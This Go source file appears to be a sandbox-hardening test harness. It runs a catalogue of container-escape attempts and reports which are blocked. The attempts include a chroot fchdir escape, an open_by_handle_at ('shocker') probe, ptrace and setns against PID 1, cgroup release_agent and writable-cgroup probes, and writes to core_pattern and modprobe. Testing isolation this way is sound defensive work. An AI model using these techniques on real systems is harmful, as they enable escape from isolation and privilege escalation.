// SPDX-License-Identifier: Apache-2.0

package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// self is this program in its images; /proc may be anything.
const self = "/bin/attacker"

// try is one attack: no error means that it worked.
type try struct {
	name string
	do   func() error
}

// deeds tries the named attacks ("all", or groups by the part before the
// dot), each in a process of its own, which a filter may kill.
func deeds(names []string) error {
	for _, t := range tries() {
		group, _, _ := strings.Cut(t.name, ".")
		if !slices.Contains(names, "all") && !slices.Contains(names, group) && !slices.Contains(names, t.name) {
			continue
		}
		c := exec.Command(self, "deed", t.name)
		c.Stdin = os.Stdin // not /dev/null, which need not be there
		out, err := c.CombinedOutput()
		text := strings.TrimSpace(string(out))
		var exit *exec.ExitError
		switch {
		case err == nil:
			escaped(t.name, "%s", text)
		case errors.As(err, &exit) && exit.Sys().(syscall.WaitStatus).Signaled():
			refused(t.name, fmt.Errorf("killed: %v", exit.Sys().(syscall.WaitStatus).Signal()))
		case errors.As(err, &exit) && exit.ExitCode() == 98:
			refused(t.name, errors.New(text))
		default:
			escaped(t.name, "unclear: %v %s", err, text)
		}
	}
	done()
	return nil
}

func deed(args []string) error {
	for _, t := range tries() {
		if len(args) == 1 && t.name == args[0] {
			runtime.LockOSThread()
			return t.do()
		}
	}
	return errors.New("no such attack")
}

func tries() []try {
	all := []try{
		{"process.ptrace-pid-1", func() error { return ptraceSeize(1) }},
		{"process.vm-readv-pid-1", func() error {
			b := make([]byte, 8)
			_, err := unix.ProcessVMReadv(1, []unix.Iovec{{Base: &b[0], Len: 8}}, []unix.RemoteIovec{{Base: 0x400000, Len: 8}}, 0)
			return err
		}},
		{"process.pid-1-root", func() error { return opens("/proc/1/root/", unix.O_RDONLY|unix.O_DIRECTORY) }},
		{"process.pid-1-cwd", func() error { return opens("/proc/1/cwd/", unix.O_RDONLY|unix.O_DIRECTORY) }},
		{"process.pid-1-exe", func() error { return opens("/proc/1/exe", unix.O_RDONLY) }},
		{"process.pid-1-mem", func() error { return opens("/proc/1/mem", unix.O_RDWR) }},
		{"process.pid-1-environ", func() error { return reads("/proc/1/environ") }},
		{"process.pid-1-fd", func() error { return reads("/proc/1/fd/0") }},
		{"process.pid-1-setns", func() error { return setns("/proc/1/ns/mnt") }},
		{"process.pidfd-getfd", func() error {
			fd, err := unix.PidfdOpen(1, 0)
			if err != nil {
				return err
			}
			_, err = unix.PidfdGetfd(fd, 0, 0)
			return err
		}},
		{"process.kcmp", func() error { return raw(unix.SYS_KCMP, 1, 1, 0, 0, 0) }},

		{"chroot.fchdir", chrootEscape},
		{"chroot.pivot-root", func() error {
			if err := os.MkdirAll("/tmp/new/old", 0o755); err != nil {
				return err
			}
			return unix.PivotRoot("/tmp/new", "/tmp/new/old")
		}},

		{"namespace.unshare-user", func() error { return unix.Unshare(unix.CLONE_NEWUSER) }},
		{"namespace.unshare-mount", func() error { return unix.Unshare(unix.CLONE_NEWNS) }},
		{"namespace.unshare-cgroup", func() error { return unix.Unshare(0x02000000) }},
		{"namespace.unshare-net", func() error { return unix.Unshare(unix.CLONE_NEWNET) }},
		{"namespace.clone-user", func() error { return cloneNewUser(unix.CLONE_NEWUSER) }},
		{"namespace.clone3-user", clone3NewUser},
		{"namespace.forkexec-user", func() error {
			c := exec.Command("/proc/self/exe", "euid")
			c.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER}
			return c.Run()
		}},

		{"socket.alg", func() error { return socket(unix.AF_ALG, unix.SOCK_SEQPACKET) }},
		{"socket.vsock", func() error { return socket(unix.AF_VSOCK, unix.SOCK_STREAM) }},
		{"socket.alg-high-bits", func() error { return raw(unix.SYS_SOCKET, unix.AF_ALG|1<<32, unix.SOCK_SEQPACKET, 0) }},
		{"socket.vsock-high-bits", func() error { return raw(unix.SYS_SOCKET, unix.AF_VSOCK|1<<32, unix.SOCK_STREAM, 0) }},
		{"socket.alg-pair", func() error { return raw(unix.SYS_SOCKETPAIR, unix.AF_ALG, unix.SOCK_SEQPACKET, 0) }},

		{"keyring.add-key", func() error {
			_, err := unix.AddKey("user", "attacker", []byte("x"), unix.KEY_SPEC_SESSION_KEYRING)
			return err
		}},
		{"keyring.keyctl", func() error {
			_, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, true)
			return err
		}},
		{"keyring.request-key", func() error {
			_, err := unix.RequestKey("user", "attacker", "", unix.KEY_SPEC_SESSION_KEYRING)
			return err
		}},
		{"keyring.proc-keys", func() error { return reads("/proc/keys") }},

		{"kernel.bpf", func() error { return raw(unix.SYS_BPF, 0, 0, 0) }},
		{"kernel.perf", func() error { return reachedKernel(raw(unix.SYS_PERF_EVENT_OPEN, 0, 0, 0, 0, 0)) }},
		{"kernel.userfaultfd", func() error { return raw(unix.SYS_USERFAULTFD, 0) }},
		{"kernel.io-uring", func() error { return reachedKernel(raw(unix.SYS_IO_URING_SETUP, 1, 0)) }},
		{"kernel.kexec", func() error { return reachedKernel(raw(unix.SYS_KEXEC_LOAD, 0, 17, 0, 0)) }},
		{"kernel.module", func() error { return reachedKernel(raw(unix.SYS_INIT_MODULE, 0, 0, 0)) }},
		{"kernel.reboot", func() error { return unix.Reboot(unix.LINUX_REBOOT_CMD_CAD_OFF) }},
		{"kernel.syslog", func() error {
			_, err := unix.Klogctl(3, make([]byte, 64)) // SYSLOG_ACTION_READ_ALL
			return err
		}},
		{"kernel.kmsg", func() error { return reads("/dev/kmsg") }},
		{"kernel.acct", func() error { return reachedKernel(unix.Acct("/not/there")) }},
		{"kernel.handle", shocker},

		{"setuid.dev-shm", func() error { return setuid("/dev/shm/setuid") }},

		{"cgroup.mount-v1", func() error { return mounts("cgroup", "memory") }},
		{"cgroup.mount-v2", func() error { return mounts("cgroup2", "") }},
		{"cgroup.release-agent", func() error {
			found, _ := filepath.Glob("/sys/fs/cgroup/*/release_agent")
			return anyOpens(append(found, "/sys/fs/cgroup/release_agent"))
		}},
		{"cgroup.writable-tree", func() error { return writableBelow("/sys/fs/cgroup") }},
		{"cgroup.writable-tree-of-others", cgroupsOfOthers},

		{"mount.tmpfs", func() error { return mounts("tmpfs", "") }},
		{"mount.proc", func() error { return mounts("proc", "") }},
		{"mount.sysfs", func() error { return mounts("sysfs", "") }},
		{"mount.bind", func() error { return unix.Mount("/proc", "/tmp", "", unix.MS_BIND, "") }},
		{"mount.fsopen", func() error {
			_, err := unix.Fsopen("tmpfs", 0)
			return err
		}},
		{"mount.open-tree", func() error {
			_, err := unix.OpenTree(unix.AT_FDCWD, "/", unix.OPEN_TREE_CLONE)
			return err
		}},
		{"mount.setattr", func() error {
			return unix.MountSetattr(unix.AT_FDCWD, "/sys", 0, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY})
		}},
		{"mount.propagation", func() error { return unix.Mount("", "/", "", unix.MS_SHARED|unix.MS_REC, "") }},
	}
	for _, p := range []string{"/proc/sys", "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/bus", "/sys", "/sys/kernel", "/sys/devices"} {
		all = append(all, try{"mask.remount-" + p, func() error { return unix.Mount("", p, "", unix.MS_REMOUNT|unix.MS_BIND, "") }})
	}
	for _, p := range []string{"/proc/sys", "/proc/sysrq-trigger", "/proc/kcore", "/proc/kallsyms", "/sys", "/sys/fs", "/sys/firmware", "/sys/power", "/proc", "/dev/null"} {
		all = append(all, try{"mask.umount-" + p, func() error { return unix.Unmount(p, unix.MNT_DETACH) }})
	}
	for _, p := range []string{
		"/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sys/vm/panic_on_oom",
		"/proc/sys/kernel/domainname", "/proc/sys/kernel/hostname", "/proc/sys/fs/suid_dumpable", "/proc/sys/fs/binfmt_misc/register", "/proc/irq/default_smp_affinity",
		"/sys/kernel/uevent_helper", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state", "/sys/kernel/vmcoreinfo", "/proc/kcore", "/proc/mtrr",
		"/sys/kernel/security/apparmor/.remove", "/sys/module/kernel/parameters/panic", "/sys/firmware/efi/vars/del_var", "/proc/scsi/scsi", "/sys/class/block/vda/uevent",
	} {
		all = append(all, try{"write." + p, func() error { return opens(p, unix.O_WRONLY) }})
	}
	for _, p := range []string{"/proc/kcore", "/proc/kallsyms", "/proc/kmsg", "/proc/config.gz", "/proc/sched_debug", "/proc/timer_list", "/proc/keys", "/sys/firmware/memmap/0/start", "/proc/interrupts"} {
		all = append(all, try{"read." + p, func() error { return reads(p) }})
	}
	all = append(all, deviceTries()...)
	return append(all, compatTries()...)
}

// reachedKernel: these calls get an error from the kernel for their empty
// arguments when they get through to it at all.
func reachedKernel(err error) error {
	if errors.Is(err, unix.EFAULT) || errors.Is(err, unix.EINVAL) || errors.Is(err, unix.ENOENT) || errors.Is(err, unix.E2BIG) {
		return nil
	}
	return err
}

func raw(nr uintptr, args ...uintptr) error {
	var a [6]uintptr
	copy(a[:], args)
	if _, _, e := unix.RawSyscall6(nr, a[0], a[1], a[2], a[3], a[4], a[5]); e != 0 {
		return e
	}
	return nil
}

func opens(path string, flags int) error {
	fd, err := unix.Open(path, flags|unix.O_CLOEXEC|unix.O_NONBLOCK|unix.O_NOCTTY, 0)
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(fd) }()
	if err := ofKernel(fd, path); err != nil {
		return err
	}
	fmt.Fprintf(os.Stdout, "opened %s", path)
	return nil
}

// ofKernel is an error if a path below /proc or /sys led to something else: a
// device or a file that was mounted over it opens no door.
func ofKernel(fd int, path string) error {
	if strings.HasPrefix(path, "/proc/1/") || !strings.HasPrefix(path, "/proc/") && !strings.HasPrefix(path, "/sys/") {
		return nil
	}
	var fs unix.Statfs_t
	if err := unix.Fstatfs(fd, &fs); err != nil {
		return err
	}
	var st unix.Stat_t
	if err := unix.Fstat(fd, &st); err != nil {
		return err
	}
	if own := []int64{unix.EXT4_SUPER_MAGIC, unix.OVERLAYFS_SUPER_MAGIC, unix.TMPFS_MAGIC, 0x1cd1}; slices.Contains(own, fs.Type) || st.Mode&unix.S_IFMT == unix.S_IFCHR {
		return fmt.Errorf("something else is there: file system %#x, mode %o, device %#x", fs.Type, st.Mode, st.Rdev)
	}
	return nil
}

// anyOpens is success if one of the paths can be opened for writing.
func anyOpens(paths []string) error {
	err := errors.New("nothing to try")
	for _, p := range paths {
		if err = opens(p, unix.O_WRONLY); err == nil {
			return nil
		}
	}
	return err
}

// reads is success if a byte comes.
func reads(path string) error {
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC|unix.O_NONBLOCK|unix.O_NOCTTY, 0)
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(fd) }()
	if err := ofKernel(fd, path); err != nil {
		return err
	}
	b := make([]byte, 256)
	n, err := unix.Read(fd, b)
	if err != nil {
		return err
	}
	if n == 0 {
		return errors.New("empty")
	}
	fmt.Fprintf(os.Stdout, "read %q", b[:min(n, 40)])
	return nil
}

func ptraceSeize(pid int) error {
	const seize = 0x4206
	return raw(unix.SYS_PTRACE, seize, uintptr(pid), 0, 0)
}

func setns(path string) error {
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	return unix.Setns(fd, 0)
}

func socket(family, kind int) error {
	_, err := unix.Socket(family, kind, 0)
	return err
}

// chrootEscape leaves a chroot by a descriptor of the outside.
func chrootEscape() error {
	before, err := inode("/")
	if err != nil {
		return err
	}
	fd, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	if err := os.MkdirAll("/tmp/in", 0o755); err != nil {
		return err
	}
	if err := unix.Chroot("/tmp/in"); err != nil {
		return err
	}
	if err := unix.Fchdir(fd); err != nil {
		return err
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	after, err := inode("/")
	if err != nil {
		return err
	}
	if after == before {
		return errors.New("still in the own root")
	}
	names, _ := os.ReadDir("/")
	fmt.Fprintf(os.Stdout, "another root with %d entries: %v", len(names), names)
	return nil
}

func inode(path string) ([2]uint64, error) {
	var st unix.Stat_t
	err := unix.Stat(path, &st)
	return [2]uint64{st.Dev, st.Ino}, err
}

// cloneNewUser forks with a new user namespace; the child ends at once.
func cloneNewUser(flags uintptr) error {
	pid, _, e := unix.RawSyscall6(unix.SYS_CLONE, flags|uintptr(unix.SIGCHLD), 0, 0, 0, 0, 0)
	if e != 0 {
		return e
	}
	if pid == 0 {
		_, _, _ = unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
	}
	return nil
}

func clone3NewUser() error {
	args := [11]uint64{0: unix.CLONE_NEWUSER, 4: uint64(unix.SIGCHLD)}
	pid, _, e := unix.RawSyscall(unix.SYS_CLONE3, uintptr(unsafe.Pointer(&args)), unsafe.Sizeof(args), 0)
	if e != 0 {
		return e
	}
	if pid == 0 {
		_, _, _ = unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
	}
	return nil
}

// mounts is success if a file system can be mounted.
func mounts(kind, data string) error {
	if err := os.MkdirAll("/tmp/mount", 0o755); err != nil {
		return err
	}
	return unix.Mount("x", "/tmp/mount", kind, 0, data)
}

// shocker opens the root of the file system that a bound file is on, by inode.
func shocker() error {
	for _, p := range []string{"/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/"} {
		fd, err := unix.Open(p, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		for _, ino := range []byte{2, 64, 128} { // ext4, tmpfs and btrfs, xfs
			h := unix.NewFileHandle(1, []byte{ino, 0, 0, 0, 0, 0, 0, 0})
			var got int
			if got, err = unix.OpenByHandleAt(fd, h, unix.O_RDONLY); err == nil {
				fmt.Fprintf(os.Stdout, "opened inode %d of the file system of %s", ino, p)
				return unix.Close(got)
			}
			if errors.Is(err, unix.ESTALE) { // the kernel looked for it
				return nil
			}
		}
		if !errors.Is(err, unix.EPERM) {
			return fmt.Errorf("%s: %w", p, err)
		}
	}
	return unix.EPERM
}

// setuid puts a setuid copy of this program at path and runs it as another user.
func setuid(path string) error {
	body, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	_ = os.Remove(path)
	defer func() { _ = os.Remove(path) }()
	if err := os.WriteFile(path, body, 0o755); err != nil {
		return err
	}
	if err := os.Chmod(path, 0o4755); err != nil {
		return err
	}
	return runAs(1000, path)
}

func runAs(uid uint32, path string) error {
	c := exec.Command(path, "euid")
	c.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uid, Gid: uid}}
	out, err := c.CombinedOutput()
	if err != nil {
		return fmt.Errorf("%w: %s", err, out)
	}
	if got := strings.TrimSpace(string(out)); got != "0" {
		return fmt.Errorf("effective uid %s", got)
	}
	fmt.Fprint(os.Stdout, "effective uid 0")
	return nil
}

func sayEUID() error {
	_, err := fmt.Fprintln(os.Stdout, os.Geteuid())
	return err
}

// writableBelow is success if anything below dir lets itself be written to, or
// takes a new directory.
func writableBelow(dir string) error {
	if _, err := os.Stat(dir); err != nil {
		return err
	}
	var found []string
	_ = filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		switch {
		case err != nil:
			return nil //nolint:nilerr // what cannot be read is as good
		case len(found) > 8:
			return filepath.SkipAll
		case d.IsDir():
			probe := filepath.Join(p, "attacker")
			if os.Mkdir(probe, 0o755) == nil {
				_ = os.Remove(probe)
				found = append(found, "mkdir in "+p)
			}
		case d.Type().IsRegular():
			if unix.Access(p, unix.W_OK) == nil {
				if fd, err := unix.Open(p, unix.O_WRONLY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0); err == nil {
					_ = unix.Close(fd)
					found = append(found, "opened for writing "+p)
				}
			}
		}
		return nil
	})
	if len(found) > 0 {
		fmt.Fprint(os.Stdout, strings.Join(found, ", "))
		return nil
	}
	return errors.New("nothing is writable")
}

// cgroupsOfOthers looks at the control groups as other processes see them.
func cgroupsOfOthers() error {
	roots, err := filepath.Glob("/proc/[0-9]*/root")
	if err != nil {
		return err
	}
	last := errors.New("no other process")
	for _, r := range roots {
		if last = writableBelow(r + "/sys/fs/cgroup"); last == nil {
			return nil
		}
	}
	return last
}
